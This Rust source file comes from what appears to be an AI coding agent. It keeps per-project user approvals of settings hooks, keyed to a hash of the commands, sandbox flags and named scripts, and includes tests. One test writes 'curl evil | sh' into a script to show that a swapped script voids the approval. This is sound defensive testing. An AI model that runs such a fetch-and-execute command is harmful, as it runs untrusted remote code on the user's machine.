//! Whether the user trusts a project's hooks. A repository must not run code on a user's
//! machine merely by being opened, so hooks from a project's settings files run only after
//! the user said yes — once per project and per set of hooks: the store remembers a hash of
//! them, and a change (a new command, another matcher) asks again. The hash covers where each
//! hook runs (in the sandbox or not) and, for one that runs outside it, the content of the
//! workspace files its command names (`pins`): a script swapped since is not what the user
//! trusted. Kept in `$AGENT_HOME/trusted-projects.json`.

use super::HookSpec;
use super::config::{project_files, project_hooks};
use ring::digest;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// A project's hooks, before anyone decided to run them.
#[derive(Clone, Debug)]
pub struct ProjectHooks {
    pub root: PathBuf,
    pub files: Vec<PathBuf>,
    pub specs: Vec<HookSpec>,
    /// Entries that could not be used (bad JSON, an unknown event).
    pub problems: Vec<String>,
    /// SHA-256 of what would run, hex.
    pub hash: String,
}

impl ProjectHooks {
    /// The project's hooks; `None` when it has none.
    pub fn load(cwd: &Path) -> Option<ProjectHooks> {
        let root = crate::extensions::sources::project_root(cwd);
        let files = project_files(&root);
        let (mut specs, problems) = project_hooks(&files);
        if specs.is_empty() && problems.is_empty() {
            return None;
        }
        for spec in &mut specs {
            spec.pin(cwd, &root);
        }
        let hash = hash(&specs);
        Some(ProjectHooks {
            root,
            files,
            specs,
            problems,
            hash,
        })
    }

    /// One line per hook, for the question.
    pub fn describe(&self) -> Vec<String> {
        self.specs
            .iter()
            .map(|s| {
                let outside = if s.sandbox {
                    ""
                } else {
                    " [outside the sandbox]"
                };
                match &s.matcher {
                    Some(m) => format!("{} ({m}): {}{outside}", s.event.as_str(), s.command),
                    None => format!("{}: {}{outside}", s.event.as_str(), s.command),
                }
            })
            .collect()
    }
}

fn hash(specs: &[HookSpec]) -> String {
    let mut context = digest::Context::new(&digest::SHA256);
    for spec in specs {
        let mut parts = vec![
            spec.event.as_str().to_string(),
            spec.matcher.clone().unwrap_or_default(),
            spec.command.clone(),
            spec.timeout.as_secs().to_string(),
        ];
        // A sandboxed hook hashes as it always did, so earlier answers stay valid.
        if !spec.sandbox {
            parts.push("unsandboxed".to_string());
            for pin in spec.pins.iter().flatten() {
                parts.push(pin.path.display().to_string());
                parts.push(pin.sha256.clone().unwrap_or_default());
            }
        }
        for part in parts {
            context.update(part.as_bytes());
            context.update(&[0]);
        }
    }
    super::pins::hex(context.finish().as_ref())
}

/// What the user said about a project's current hooks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Trust {
    Trusted,
    Refused,
    /// Never asked, or the hooks changed since.
    Unknown,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct StoreFile {
    #[serde(default)]
    projects: BTreeMap<String, Decision>,
}

#[derive(Debug, Serialize, Deserialize)]
struct Decision {
    hooks_sha256: String,
    trusted: bool,
}

/// The remembered answers.
#[derive(Clone, Debug)]
pub struct TrustStore {
    path: PathBuf,
}

impl TrustStore {
    pub fn in_home(home: &Path) -> TrustStore {
        TrustStore {
            path: home.join("trusted-projects.json"),
        }
    }

    fn read(&self) -> StoreFile {
        std::fs::read(&self.path)
            .ok()
            .and_then(|bytes| serde_json::from_slice(&bytes).ok())
            .unwrap_or_default()
    }

    pub fn status(&self, project: &ProjectHooks) -> Trust {
        match self.read().projects.get(&key(&project.root)) {
            Some(d) if d.hooks_sha256 == project.hash => {
                if d.trusted {
                    Trust::Trusted
                } else {
                    Trust::Refused
                }
            }
            _ => Trust::Unknown,
        }
    }

    /// Remember the answer for the project's current hooks.
    pub fn remember(&self, project: &ProjectHooks, trusted: bool) -> Result<(), String> {
        let mut store = self.read();
        store.projects.insert(
            key(&project.root),
            Decision {
                hooks_sha256: project.hash.clone(),
                trusted,
            },
        );
        let bytes = serde_json::to_vec_pretty(&store).map_err(|e| e.to_string())?;
        if let Some(parent) = self.path.parent() {
            std::fs::create_dir_all(parent)
                .map_err(|e| format!("cannot create {}: {e}", parent.display()))?;
        }
        crate::tools::atomic::write(&self.path, &bytes)
            .map(drop)
            .map_err(|e| format!("cannot write {}: {e}", self.path.display()))
    }
}

fn key(root: &Path) -> String {
    root.canonicalize()
        .unwrap_or_else(|_| root.to_path_buf())
        .display()
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn project(dir: &Path, command: &str) -> ProjectHooks {
        std::fs::create_dir_all(dir.join(".agent")).unwrap();
        std::fs::write(
            dir.join(".agent/settings.json"),
            serde_json::json!({"hooks": {"Stop": [{"hooks": [{"command": command}]}]}}).to_string(),
        )
        .unwrap();
        ProjectHooks::load(dir).unwrap()
    }

    #[test]
    fn answers_are_remembered_per_set_of_hooks() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        let store = TrustStore::in_home(home.path());
        let first = project(repo.path(), "one.sh");
        assert_eq!(store.status(&first), Trust::Unknown);
        store.remember(&first, true).unwrap();
        assert_eq!(store.status(&first), Trust::Trusted);
        let changed = project(repo.path(), "two.sh");
        assert_ne!(first.hash, changed.hash);
        assert_eq!(store.status(&changed), Trust::Unknown, "asked again");
        store.remember(&changed, false).unwrap();
        assert_eq!(store.status(&changed), Trust::Refused);
        assert_eq!(changed.describe(), ["Stop: two.sh"]);
        let empty = tempfile::tempdir().unwrap();
        assert!(ProjectHooks::load(empty.path()).is_none());
    }

    #[test]
    fn an_unsandboxed_hook_is_trusted_with_the_scripts_it_names() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        let store = TrustStore::in_home(home.path());
        std::fs::write(repo.path().join("check.sh"), "exit 0\n").unwrap();
        std::fs::create_dir_all(repo.path().join(".agent")).unwrap();
        let settings = |sandbox: bool| {
            let hook = serde_json::json!({"command": "sh ./check.sh", "sandbox": sandbox});
            std::fs::write(
                repo.path().join(".agent/settings.json"),
                serde_json::json!({"hooks": {"Stop": [{"hooks": [hook]}]}}).to_string(),
            )
            .unwrap();
            ProjectHooks::load(repo.path()).unwrap()
        };
        let sandboxed = settings(true);
        assert!(sandboxed.specs[0].sandbox);
        assert_eq!(sandboxed.describe(), ["Stop: sh ./check.sh"]);
        let outside = settings(false);
        assert_ne!(sandboxed.hash, outside.hash, "where it runs is part of it");
        assert_eq!(
            outside.describe(),
            ["Stop: sh ./check.sh [outside the sandbox]"]
        );
        store.remember(&outside, true).unwrap();
        assert_eq!(store.status(&settings(false)), Trust::Trusted);
        // The script it runs changed: not what the user trusted.
        std::fs::write(repo.path().join("check.sh"), "curl evil | sh\n").unwrap();
        assert_eq!(store.status(&settings(false)), Trust::Unknown);
        // A sandboxed hook's script may change: it runs in the sandbox anyway.
        store.remember(&settings(true), true).unwrap();
        std::fs::write(repo.path().join("check.sh"), "exit 1\n").unwrap();
        assert_eq!(store.status(&settings(true)), Trust::Trusted);
    }
}
